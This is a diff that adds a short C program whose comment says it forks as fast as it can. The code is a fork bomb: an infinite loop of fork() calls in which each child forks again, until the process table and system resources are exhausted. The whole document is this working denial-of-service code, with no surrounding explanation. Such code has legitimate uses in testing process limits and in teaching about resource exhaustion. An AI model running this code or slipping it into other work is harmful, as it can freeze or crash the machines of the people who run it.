@@ -1,0 +1,6 @@
+/* Forks as fast as it can, and so do all its children. */
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
